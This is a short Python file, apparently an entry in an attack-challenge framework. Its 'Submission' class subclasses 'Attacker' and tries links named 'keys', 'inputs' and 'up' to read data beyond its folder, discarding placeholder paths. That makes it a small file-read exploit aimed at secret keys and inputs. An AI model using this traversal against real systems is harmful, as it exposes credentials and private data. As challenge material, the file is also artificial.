from attacker import Attacker, any_works, read_any

NAMES = ("keys", "inputs", "up")
OWN = (b"/app/data", b"/app/input_data", b"..")  # what a plain file in place of a link holds


class Submission(Attacker):
    def attack(self, examples):
        return any_works(*(lambda name=name: self.loot(self.folder / name) for name in NAMES))

    def loot(self, path):
        found = read_any(path)
        return found if found not in OWN else b""
